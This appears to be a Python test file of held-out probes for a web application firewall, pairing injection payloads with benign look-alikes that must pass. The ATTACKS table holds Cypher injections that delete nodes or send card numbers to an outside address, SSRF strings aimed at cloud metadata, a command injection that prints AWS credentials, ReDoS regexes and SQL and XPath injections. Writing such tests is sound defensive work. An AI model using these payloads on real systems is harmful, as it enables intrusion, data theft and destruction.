"""WAF, part 2z6: held-out probes, twenty-ninth file (README: the
thirty-seventh round), written for this file on 2026-12-05. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

First, classes the weak list named (NoSQL and graph queries), before the
museum, maker, biolab and tax corpora were first replayed:
- privilege-flag: a MongoDB $or whose alternative sets a privilege's flag
  ("is_admin": true) (refused); an $or of ordinary fields (passes);
- regex-alternation: a $regex whose quantified group has alternatives
  that spell the same text two ways ("(a|aa)+": catastrophic
  backtracking) (refused); alternatives that do not ("(Mr|Mrs)+")
  (pass);
- cypher-breakout: Cypher's literal, property map and node pattern
  closed, then a clause that reads or writes the graph (refused); a
  quoted title and a sentence with Cypher's words (pass);
- cypher-exfil: a URL LOAD CSV or apoc.load fetches built from a property
  (refused); a whole LOAD CSV of a local file (passes).
Measured on a813bbf (before the changes): every attack passed, every
look-alike passed.

Then, after the museum, maker, biolab and tax corpora were first replayed
(at d1904ac), the classes they showed:
- ini-section: a configuration file's section and its keys (passes); a
  section, then a known header's name (refused);
- v4-in-v6: an internal IPv4 address in IPv6 brackets, compatible or
  mapped, short form (refused); a documentation IPv6 address in text
  (passes);
- markup-target: any element's href or target but a link's at an
  internal address (refused); a link to the loopback (passes);
- bare-host-path: a folder named like a cloud's internal host (passes);
  the loopback's name and a path (refused);
- print-command: a print command given options and a file after a
  breakout (refused); "LP" in a partnership's name (passes);
- module-import: a mesh imported by a relative path (passes); a module
  imported from another host (refused);
- line-continuation: a backslash and a line break inside a command's name
  after a separator (refused); markdown's hard line break (passes);
- modifier-apostrophe: U+02BC closing a literal (refused); contractions
  written with it (pass);
- xpath-boolean: XPath's true() after a number's "or" (refused); the
  function named mid-sentence (passes);
- glob-segments: a path with "*" segments (passes); a comment between a
  path and UNION SELECT (refused).
Measured on d1904ac: 7 of those 12 attacks passed, 4 of the 10
look-alikes were refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "privilege-flag": ['{"$or": [{"dept": "sales"}, {"isSuperuser": true}]}',
                       '{"$or": [{"owner": "kim"}, {"has_admin": 1}]}'],
    "regex-alternation": ['{"sku": {"$regex": "^(b|bb)+!$"}}',
                          '{"tag": {"$regex": "(q|r|qr)*s"}}'],
    "cypher-breakout": ["kim'}) MATCH (k) DETACH DELETE k //",
                        "7' UNION MATCH (a:Account) RETURN a.pin AS title //",
                        "zed'}) SET z.tier = 'gold' //"],
    "cypher-exfil": ["MATCH (c:Card) LOAD CSV FROM 'https://198.51.100.6/q?n=' + c.number AS x "
                     "RETURN x",
                     "t'}) CALL apoc.load.json('http://198.51.100.6/' + t.key) YIELD value "
                     "RETURN 1 //"],
    "ini-section": ["[mail]\nBcc: ops@198.51.100.8"],
    "v4-in-v6": ["http://[::10.0.0.7]:9200/_cat/indices", "https://[::ffff:169.254.169.254]/v1/"],
    "markup-target": ["<object-ref href=\"http://10.2.3.4:8080/x\"/>",
                      "<Relationship Target=\"http://127.0.0.2/r\" Id=\"x9\"/>"],
    "bare-host-path": ["localhost/server-status?auto"],
    "print-command": ["note'; lpr -P front ~/.aws/credentials; '"],
    "module-import": ["x');import('https://198.51.100.9/m.mjs')//"],
    "line-continuation": ["memo.txt;una\\\nme -a"],
    "modifier-apostrophe": ["k9\u02bc OR \u02bcz\u02bc=\u02bcz"],
    "xpath-boolean": ["12 or true()"],
    "glob-segments": ["/srv/*/x/*/union select 1,2"],
}

BENIGN = {
    "privilege-flag": ['{"$or": [{"dept": "sales"}, {"region": "emea"}]}'],
    "regex-alternation": ['{"title": {"$regex": "^(Dr|Drs)+\\\\.? "}}',
                          '{"sku": {"$regex": "^(red|blue)-\\\\d+$"}}'],
    "cypher-breakout": ['"Match (1972)" was on late TV', "Lee's match (away) was a draw",
                        "MATCH (m:Movie {title: 'Heat'}) RETURN m.year"],
    "cypher-exfil": ["LOAD CSV WITH HEADERS FROM 'file:///seed/cities.csv' AS r "
                     "MERGE (:City {name: r.name})"],
    "ini-section": ["[probe]\nx_offset: -31\ny_offset: 4\nspeed: 7"],
    "v4-in-v6": ["the node listens on [2001:db8::7]:8080 (a documentation prefix)"],
    "line-continuation": ["first line\\\nsecond line (a markdown hard break)"],
    "markup-target": ["<a href=\"http://localhost:5173/\">dev server</a>"],
    "bare-host-path": ["Metadata/thumbnail.png and Metadata/model_settings.config"],
    "print-command": ["Oakridge Holdings LP; statement attached"],
    "module-import": ["import(\"parts/hinge.stl\");"],
    "modifier-apostrophe": ["we\u02bcre done, isn\u02bct it?"],
    "xpath-boolean": ["the check returns true() or false() as expected"],
    "glob-segments": ["/mnt/*/raw/Run_*/L*_R2.fastq.gz"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r29_attack_refused_everywhere,
 test_heldout_r29_benign_passes) = heldout_probe_tests(
    "r29", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
